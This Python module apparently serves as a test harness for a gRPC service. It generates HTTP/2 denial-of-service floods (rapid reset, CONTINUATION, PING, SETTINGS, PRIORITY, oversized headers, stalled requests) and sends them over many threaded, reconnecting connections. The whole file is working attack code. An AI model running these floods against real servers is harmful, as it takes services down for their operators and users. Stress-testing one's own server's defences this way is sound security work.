"""Floods of HTTP/2 frames (RFC 9113), as hostile clients send them."""

import functools
import socket
import ssl
import struct
import threading

from http2 import (DATA, END_HEADERS, END_STREAM, HEADERS, PREFACE, SETTINGS,
                   field, frame)

PRIORITY, RST_STREAM, PING, CONTINUATION = 2, 3, 6, 9
CANCEL = 8
CALL = ((":method", "POST"), (":scheme", "http"),
        (":path", "/webhooks.v1.WebhookService/List"), (":authority", "a"),
        ("te", "trailers"), ("content-type", "application/grpc"))
# 120 bytes of a header.
FIELD = field("x" * 60, "y" * 60)


def call_headers(key=None):
    fields = CALL if key is None else (*CALL, ("x-api-key", key))
    return b"".join(field(*pair) for pair in fields)


EMPTY_MESSAGE = b"\0\0\0\0\0"
FIRST_STREAMS = 20000


def streams(make, first=1, count=FIRST_STREAMS):
    return b"".join(make(id) for id in range(first, first + 2 * count, 2))


def rapid_resets(first, key=None):
    headers = call_headers(key)
    return streams(lambda id: frame(HEADERS, END_HEADERS, id, headers)
                   + frame(DATA, END_STREAM, id, EMPTY_MESSAGE)
                   + frame(RST_STREAM, 0, id, struct.pack(">I", CANCEL)), first)


OPEN_STREAM = frame(HEADERS, END_HEADERS, 1, call_headers())


def large_headers(first):
    """Streams that stay open, each with headers of 60 KiB in two frames."""
    rest = FIELD * 120
    return streams(
        lambda id: frame(HEADERS, 0, id, call_headers())
        + b"".join(frame(CONTINUATION, 0, id, rest) for _ in range(3))
        + frame(CONTINUATION, END_HEADERS, id, rest), first, 200)


def unfinished_requests(first):
    """Streams whose message of 1 MiB stops after 16,000 bytes."""
    message = b"\0" + struct.pack(">I", 1 << 20)
    return streams(
        lambda id: frame(HEADERS, END_HEADERS, id, call_headers())
        + frame(DATA, 0, id, message + b"z" * 16000), first, 500)


# What is sent first, and then over and over; a function makes what follows of
# the first id of a stream that is not used yet.
FLOODS = {
    "rapid reset": (b"", rapid_resets),
    "continuation": (frame(HEADERS, 0, 1, call_headers()),
                     frame(CONTINUATION, 0, 1,
                           FIELD * 120) * 60),
    "empty continuation": (frame(HEADERS, 0, 1, call_headers()),
                           frame(CONTINUATION, 0, 1) * 50000),
    "settings": (b"", frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))
                 * 30000),
    "ping": (b"", frame(PING, 0, 0, b"12345678") * 30000),
    "priority": (OPEN_STREAM, frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") * 30000),
    "large headers": (b"", large_headers),
    "unfinished requests": (b"", unfinished_requests),
    "empty data": (OPEN_STREAM, frame(DATA, 0, 1) * 50000),
}


class Attack:
    """Connections that each send a flood until stopped; connects again when it
    is closed."""

    def __init__(self, address, name, connections=8, tls=None, key=None):
        host, port = address.rsplit(":", 1)
        self._address = (host.strip("[]"), int(port))
        self._begin, self._flood = FLOODS[name]
        if key is not None:
            self._flood = functools.partial(self._flood, key=key)
        self._tls = tls
        self._stop = threading.Event()
        self.bytes = 0
        self.opened = 0
        self._threads = [threading.Thread(target=self._run)
                         for _ in range(connections)]

    def __enter__(self):
        for thread in self._threads:
            thread.start()
        return self

    def __exit__(self, *_):
        self._stop.set()
        for thread in self._threads:
            thread.join()

    def _connect(self):
        # Not from where the gateway is, which is trusted.
        source = None if ":" in self._address[0] else ("127.0.0.2", 0)
        connection = socket.create_connection(self._address, timeout=2,
                                              source_address=source)
        if self._tls is not None:
            connection = self._tls.wrap_socket(
                connection, server_hostname="localhost")
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0) + self._begin)
        self.opened += 1
        return connection

    def _run(self):
        while not self._stop.is_set():
            try:
                with self._connect() as connection:
                    self._send(connection)
            except OSError:
                self._stop.wait(0.05)

    def _send(self, connection):
        first = 1
        while not self._stop.is_set():
            flood = self._flood
            if callable(flood):
                flood = flood(first)
                first += 2 * FIRST_STREAMS
            self._discard(connection)
            for start in range(0, len(flood), 1 << 20):
                if self._stop.is_set():
                    return
                part = flood[start:start + (1 << 20)]
                connection.sendall(part)
                self.bytes += len(part)

    def _discard(self, connection):
        connection.setblocking(False)
        try:
            while connection.recv(1 << 16):
                pass
        except (BlockingIOError, ssl.SSLWantReadError):
            pass
        finally:
            connection.settimeout(2)
